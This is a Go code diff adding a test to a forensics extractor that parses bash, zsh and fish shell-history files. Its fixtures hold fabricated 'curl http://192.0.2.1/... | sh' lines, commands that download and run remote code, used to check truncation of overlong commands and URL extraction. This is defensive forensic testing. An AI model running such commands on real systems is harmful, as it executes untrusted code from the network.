@@ -13,6 +13,7 @@ import (
 	"github.com/google/go-cmp/cmp"
 
 	"icecore/forensics/artifact"
+	"icecore/forensics/artifact/artifacttest"
 )
 
 func extract(t testing.TB, in *artifact.Input) string {
@@ -101,4 +102,21 @@ func FuzzExtract(f *testing.F) {
 	f.Fuzz(func(t *testing.T, which byte, b []byte) {
 		extract(t, input("/root/."+[]string{"bash", "zsh", "mysql"}[which%3]+"_history", b))
 	})
+}
+
+// TestLongCommand: of a command of any length the beginning is read, which is said.
+func TestLongCommand(t *testing.T) {
+	for p, text := range map[string]string{
+		"/root/.zsh_history":                   "curl http://192.0.2.1/a | sh" + strings.Repeat("\\\n", 200_000) + "; x\n: 1700000000:0;curl http://192.0.2.1/b | sh\n",
+		"/root/.bash_history":                  "curl http://192.0.2.1/a | sh " + strings.Repeat("x", maxCommand) + "\ncurl http://192.0.2.1/b | sh\n",
+		"/root/.local/share/fish/fish_history": "- cmd: curl http://192.0.2.1/a | sh " + strings.Repeat("x", maxCommand) + "\n- cmd: curl http://192.0.2.1/b | sh\n",
+	} {
+		records, err := artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: p, Text: text})
+		if err == nil || err.Error() != "the ends of 1 commands longer than 65536 bytes were not read" {
+			t.Errorf("%s: %v", p, err)
+		}
+		if len(records) != 3 || !records[0].Contains("urls", "http://192.0.2.1/a") || !records[1].Contains("urls", "http://192.0.2.1/b") {
+			t.Errorf("%s: %d records", p, len(records))
+		}
+	}
 }
